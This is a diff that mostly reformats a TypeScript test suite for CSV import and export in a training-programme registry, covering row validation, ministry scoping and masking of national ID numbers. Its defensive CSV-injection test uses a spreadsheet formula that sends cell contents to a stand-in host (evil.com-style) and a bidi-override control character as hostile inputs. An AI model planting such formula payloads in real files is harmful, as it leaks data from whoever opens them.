@@ -16,8 +16,18 @@ import { Role, startTestApp, type Client, type TestApp } from './support/test-ap
 
 let t: TestApp;
 let editor: Client, viewer: Client, otherEditor: Client;
-const IMPORT = parse('mutation($kind: ImportKind!, $csv: String!, $mode: ImportMode) { importCsv(kind: $kind, csv: $csv, mode: $mode) { total created updated unchanged failed written errors { line field message } } }');
-type Report = { total: number; created: number; updated: number; unchanged: number; failed: number; written: boolean; errors: { line: number; field: string; message: string }[] };
+const IMPORT = parse(
+  'mutation($kind: ImportKind!, $csv: String!, $mode: ImportMode) { importCsv(kind: $kind, csv: $csv, mode: $mode) { total created updated unchanged failed written errors { line field message } } }',
+);
+type Report = {
+  total: number;
+  created: number;
+  updated: number;
+  unchanged: number;
+  failed: number;
+  written: boolean;
+  errors: { line: number; field: string; message: string }[];
+};
 const run = async (c: Client, kind: string, csv: string, mode?: string) => c.exec(IMPORT as never, { kind, csv, mode } as never);
 const report = async (c: Client, kind: string, csv: string, mode?: string) => (expectOk(await run(c, kind, csv, mode)) as { importCsv: Report }).importCsv;
 
@@ -44,12 +54,17 @@ describe('CSV import', () => {
     const before = await own('KEMNAKER');
     const r = await report(editor, 'INSTITUTIONS', INSTITUTIONS);
     expect(r).toMatchObject({ total: 6, written: false, created: 0, failed: 4 });
-    expect(r.errors.map((e) => [e.line, e.field])).toEqual([[3, 'annualCapacity'], [4, 'provinceCode'], [5, 'type'], [6, 'externalId']]);
+    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
+      [3, 'annualCapacity'],
+      [4, 'provinceCode'],
+      [5, 'type'],
+      [6, 'externalId'],
+    ]);
     expect(r.errors[3].message).toBe('repeats line 2');
     expect(await own('KEMNAKER')).toBe(before);
   });
 
-  it('good rows only, as an option: the good rows land in the importer\'s ministry', async () => {
+  it("good rows only, as an option: the good rows land in the importer's ministry", async () => {
     const r = await report(editor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
     expect(r).toMatchObject({ total: 6, created: 2, failed: 4, written: true });
     const rows = await t.em().find(Institution, { externalId: { $in: ['BLK-001', 'BLK-005'] } }, { orderBy: { externalId: 'asc' } });
@@ -64,7 +79,12 @@ describe('CSV import', () => {
     const again = await report(editor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
     expect(again).toMatchObject({ created: 0, updated: 0, unchanged: 2, failed: 4 });
     expect((await t.em().find(Institution, { externalId: { $in: ['BLK-001', 'BLK-005'] } })).map((i) => i.version)).toEqual(versions);
-    const changed = await report(editor, 'INSTITUTIONS', INSTITUTIONS.replace('BLK Banyuwangi,VOCATIONAL_SCHOOL,35,Kab. Banyuwangi,360', 'BLK Banyuwangi,VOCATIONAL_SCHOOL,35,Kab. Banyuwangi,400'), 'GOOD_ROWS_ONLY');
+    const changed = await report(
+      editor,
+      'INSTITUTIONS',
+      INSTITUTIONS.replace('BLK Banyuwangi,VOCATIONAL_SCHOOL,35,Kab. Banyuwangi,360', 'BLK Banyuwangi,VOCATIONAL_SCHOOL,35,Kab. Banyuwangi,400'),
+      'GOOD_ROWS_ONLY',
+    );
     expect(changed).toMatchObject({ created: 0, updated: 1, unchanged: 1 });
   });
 
@@ -76,16 +96,22 @@ describe('CSV import', () => {
     expect(await own('KEMENPAR')).toBe(2);
   });
 
-  it('programmes reference their institution by its externalId, in the importer\'s ministry only', async () => {
-    const csv = ['externalId,institutionExternalId,title,sector,targetCountryCodes,capacityPerIntake,startDate,endDate,forHouseholdWork',
+  it("programmes reference their institution by its externalId, in the importer's ministry only", async () => {
+    const csv = [
+      'externalId,institutionExternalId,title,sector,targetCountryCodes,capacityPerIntake,startDate,endDate,forHouseholdWork',
       'P-1,BLK-001,Caregiver Jepang,HEALTH,JP;TW,30,2026-01-05,2026-06-30,',
       'P-2,BLK-404,Unknown institution,HEALTH,,10,,,',
       'P-3,BLK-001,Middle East domestic work,HEALTH,SA,10,,,true',
       'P-4,BLK-001,Backwards,HEALTH,,10,2026-06-30,2026-01-05,',
-      'P-5,BLK-001,Hotel work in Saudi Arabia,TOURISM,SA,10,,,false'].join('\n');
+      'P-5,BLK-001,Hotel work in Saudi Arabia,TOURISM,SA,10,,,false',
+    ].join('\n');
     const r = await report(editor, 'PROGRAMS', csv, 'GOOD_ROWS_ONLY');
     // The moratorium closes household work only (Kepmenaker 260/2015): hotel work in SA stays open.
-    expect(r.errors.map((e) => [e.line, e.field])).toEqual([[3, 'institutionExternalId'], [4, 'targetCountryCodes'], [5, 'endDate']]);
+    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
+      [3, 'institutionExternalId'],
+      [4, 'targetCountryCodes'],
+      [5, 'endDate'],
+    ]);
     expect(r.errors[1].message).toContain('260/2015');
     expect(await t.em().count(Program, { externalId: 'P-5' })).toBe(1);
     const p = await t.em().findOneOrFail(Program, { externalId: 'P-1' }, { populate: ['institution'] });
@@ -97,14 +123,21 @@ describe('CSV import', () => {
 
   it('trainees are validated like createTrainee: NIK, age, sex', async () => {
     const good = f.validNik(Sex.FEMALE, '1999-02-03');
-    const csv = ['externalId,nik,fullName,sex,birthDate,originProvinceCode,email',
+    const csv = [
+      'externalId,nik,fullName,sex,birthDate,originProvinceCode,email',
       `T-1,${good},Siti Aminah,FEMALE,1999-02-03,35,siti@mail.example`,
       `T-2,${good.slice(0, 10)},Short Nik,FEMALE,1999-02-03,35,`,
       `T-3,${f.validNik(Sex.FEMALE, '1999-02-03')},Wrong Sex,MALE,1999-02-03,35,`,
       `T-4,${f.validNik(Sex.MALE, '2015-01-01')},Too Young,MALE,2015-01-01,35,`,
-      `T-5,${f.validNik(Sex.MALE, '1990-01-01')},Bad Mail,MALE,1990-01-01,35,not-mail`].join('\n');
+      `T-5,${f.validNik(Sex.MALE, '1990-01-01')},Bad Mail,MALE,1990-01-01,35,not-mail`,
+    ].join('\n');
     const r = await report(editor, 'TRAINEES', csv, 'GOOD_ROWS_ONLY');
-    expect(r.errors.map((e) => [e.line, e.field])).toEqual([[3, 'nik'], [4, 'nik'], [5, 'birthDate'], [6, 'email']]);
+    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
+      [3, 'nik'],
+      [4, 'nik'],
+      [5, 'birthDate'],
+      [6, 'email'],
+    ]);
     expect(r.created).toBe(1);
     expect(await t.em().count(Trainee, { externalId: 'T-1' })).toBe(1);
   });
@@ -117,11 +150,15 @@ describe('CSV import', () => {
 });
 
 describe('CSV export', () => {
-  it('exports the caller\'s list with the same filter and scope', async () => {
-    const csv = String((expectOk(await viewer.exec(parse('{ institutionsCsv(filter: { search: "Malang" }) }') as never, {})) as { institutionsCsv: string }).institutionsCsv);
+  it("exports the caller's list with the same filter and scope", async () => {
+    const csv = String(
+      (expectOk(await viewer.exec(parse('{ institutionsCsv(filter: { search: "Malang" }) }') as never, {})) as { institutionsCsv: string }).institutionsCsv,
+    );
     const rows = parseCsv(csv, { columns: true }) as Record<string, string>[];
     expect(rows.map((r) => [r.externalId, r.ownerMinistry, r.sectors])).toEqual([['BLK-001', 'KEMNAKER', 'TOURISM;HEALTH']]);
-    const all = parseCsv(String((expectOk(await viewer.exec(parse('{ institutionsCsv }') as never, {})) as { institutionsCsv: string }).institutionsCsv), { columns: true }) as Record<string, string>[];
+    const all = parseCsv(String((expectOk(await viewer.exec(parse('{ institutionsCsv }') as never, {})) as { institutionsCsv: string }).institutionsCsv), {
+      columns: true,
+    }) as Record<string, string>[];
     expect(all.every((r) => r.ownerMinistry === 'KEMNAKER')).toBe(true);
     expect(all).toHaveLength(await own('KEMNAKER'));
   });
@@ -130,11 +167,35 @@ describe('CSV export', () => {
     const em = t.em();
     const [kemnaker, kemenpar] = await Promise.all([t.ministry('KEMNAKER'), t.ministry('KEMENPAR')]);
     const person = f.trainee(em, kemnaker);
-    const mou = em.create(Mou, { ownerMinistry: kemnaker, title: 'Export MoU', scope: 'x', validFrom: '2025-01-01', validUntil: '2030-01-01', partyMinistryIds: [kemnaker.id, kemenpar.id], recordedStatus: MouStatus.ACTIVE });
+    const mou = em.create(Mou, {
+      ownerMinistry: kemnaker,
+      title: 'Export MoU',
+      scope: 'x',
+      validFrom: '2025-01-01',
+      validUntil: '2030-01-01',
+      partyMinistryIds: [kemnaker.id, kemenpar.id],
+      recordedStatus: MouStatus.ACTIVE,
+    });
     for (const m of [kemnaker, kemenpar]) em.create(MouParty, { mou, ministry: m, signedAt: new Date() });
-    em.create(DataSharingClause, { mou, providerMinistry: kemnaker, recipientMinistry: kemenpar, resourceTypes: [ResourceType.TRAINEE], includesPersonalData: false, purpose: 'Export test purpose' });
+    em.create(DataSharingClause, {
+      mou,
+      providerMinistry: kemnaker,
+      recipientMinistry: kemenpar,
+      resourceTypes: [ResourceType.TRAINEE],
+      includesPersonalData: false,
+      purpose: 'Export test purpose',
+    });
     await em.flush();
-    const csv = String((expectOk(await otherEditor.exec(parse('query($m: ID) { traineesCsv(filter: { ownerMinistryId: $m }) }') as never, { m: toGlobalId('Ministry', kemnaker.id) } as never)) as { traineesCsv: string }).traineesCsv);
+    const csv = String(
+      (
+        expectOk(
+          await otherEditor.exec(
+            parse('query($m: ID) { traineesCsv(filter: { ownerMinistryId: $m }) }') as never,
+            { m: toGlobalId('Ministry', kemnaker.id) } as never,
+          ),
+        ) as { traineesCsv: string }
+      ).traineesCsv,
+    );
     const row = (parseCsv(csv, { columns: true }) as Record<string, string>[]).find((r) => r.id === f.gid(person))!;
     expect(row.nik).toBe(`${person.nik.slice(0, 4)}**********${person.nik.slice(14)}`);
     expect(row.birthDate).toMatch(/^\d{4}-\*\*-\*\*$/);
@@ -145,7 +206,9 @@ describe('CSV export', () => {
 describe('CSV injection (OWASP)', () => {
   it('cells that a spreadsheet would run as formulas are exported with an apostrophe, and import back unchanged', async () => {
     const names = ['=HYPERLINK("http://evil.example/?leak="&B2&C2,"x")', '+SUM(A1:A9)', '-2+3', '@cmd', 'Plain name'];
-    const csv = ['externalId,name,type,provinceCode,annualCapacity', ...names.map((n, i) => `INJ-${i},"${n.replace(/"/g, '""')}",TRAINING_CENTRE,35,10`)].join('\n');
+    const csv = ['externalId,name,type,provinceCode,annualCapacity', ...names.map((n, i) => `INJ-${i},"${n.replace(/"/g, '""')}",TRAINING_CENTRE,35,10`)].join(
+      '\n',
+    );
     expect(await report(otherEditor, 'INSTITUTIONS', csv)).toMatchObject({ created: names.length, failed: 0 });
     const exported = String((expectOk(await otherEditor.exec(parse('{ institutionsCsv }') as never, {})) as { institutionsCsv: string }).institutionsCsv);
     const rows = (parseCsv(exported, { columns: true }) as Record<string, string>[]).filter((r) => r.externalId.startsWith('INJ-'));
@@ -157,20 +220,29 @@ describe('CSV injection (OWASP)', () => {
     }
     // The exported file, imported again, is unchanged: the apostrophes come off.
     const columns = 'externalId,name,type,provinceCode,annualCapacity';
-    const again = [columns, ...rows.map((r) => [r.externalId, r.name, r.type, r.provinceCode, r.annualCapacity].map((v) => `"${v.replace(/"/g, '""')}"`).join(','))].join('\n');
+    const again = [
+      columns,
+      ...rows.map((r) => [r.externalId, r.name, r.type, r.provinceCode, r.annualCapacity].map((v) => `"${v.replace(/"/g, '""')}"`).join(',')),
+    ].join('\n');
     expect(await report(otherEditor, 'INSTITUTIONS', again)).toMatchObject({ unchanged: names.length, updated: 0, failed: 0 });
   });
 });
 
 describe('import reports every bad line, never one opaque failure', () => {
-  it('a NIK repeated in the file, or on record for another trainee, is that line\'s error', async () => {
+  it("a NIK repeated in the file, or on record for another trainee, is that line's error", async () => {
     const kemnaker = await t.ministry('KEMNAKER');
     const em = t.em();
     const existing = f.trainee(em, kemnaker, { externalId: 'OLD-1' } as never);
     await em.flush();
     const nik = f.validNik();
     const header = 'externalId,nik,fullName,sex,birthDate,originProvinceCode';
-    const csv = [header, `DUP-1,${nik},Siti Aminah,FEMALE,1998-04-12,35`, `DUP-2,${nik},Siti Lain,FEMALE,1998-04-12,35`, `DUP-3,${existing.nik},Dewi,FEMALE,${existing.birthDate},35`, `DUP-4,${f.validNik()},Ani,FEMALE,1998-04-12,35`].join('\n');
+    const csv = [
+      header,
+      `DUP-1,${nik},Siti Aminah,FEMALE,1998-04-12,35`,
+      `DUP-2,${nik},Siti Lain,FEMALE,1998-04-12,35`,
+      `DUP-3,${existing.nik},Dewi,FEMALE,${existing.birthDate},35`,
+      `DUP-4,${f.validNik()},Ani,FEMALE,1998-04-12,35`,
+    ].join('\n');
     const r = await report(editor, 'TRAINEES', csv);
     expect(r.written).toBe(false);
     expect(r.errors).toEqual([
@@ -182,10 +254,21 @@ describe('import reports every bad line, never one opaque failure', () => {
   });
 
   it('control characters, blank cells and implausible dates are per-line errors', async () => {
-    const csv = ['externalId,name,type,provinceCode,annualCapacity', 'J-1,"BLK\u0007Bell",TRAINING_CENTRE,35,10', 'J-2,"\u200b\u200b",TRAINING_CENTRE,35,10', 'J-3,"BLK \u202eevil",TRAINING_CENTRE,35,10'].join('\n');
+    const csv = [
+      'externalId,name,type,provinceCode,annualCapacity',
+      'J-1,"BLK\u0007Bell",TRAINING_CENTRE,35,10',
+      'J-2,"\u200b\u200b",TRAINING_CENTRE,35,10',
+      'J-3,"BLK \u202eevil",TRAINING_CENTRE,35,10',
+    ].join('\n');
     const r = await report(editor, 'INSTITUTIONS', csv);
-    expect(r.errors.map((e) => [e.line, e.field])).toEqual([[2, 'name'], [3, 'name'], [4, 'name']]);
+    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
+      [2, 'name'],
+      [3, 'name'],
+      [4, 'name'],
+    ]);
     const programs = ['externalId,institutionExternalId,title,sector,capacityPerIntake,startDate', 'P-0,BLK-001,Kursus,TOURISM,10,0001-01-01'].join('\n');
-    expect((await report(editor, 'PROGRAMS', programs)).errors).toEqual([{ line: 2, field: 'startDate', message: 'must be a date from 2000-01-01 to 2100-12-31' }]);
+    expect((await report(editor, 'PROGRAMS', programs)).errors).toEqual([
+      { line: 2, field: 'startDate', message: 'must be a date from 2000-01-01 to 2100-12-31' },
+    ]);
   });
 });
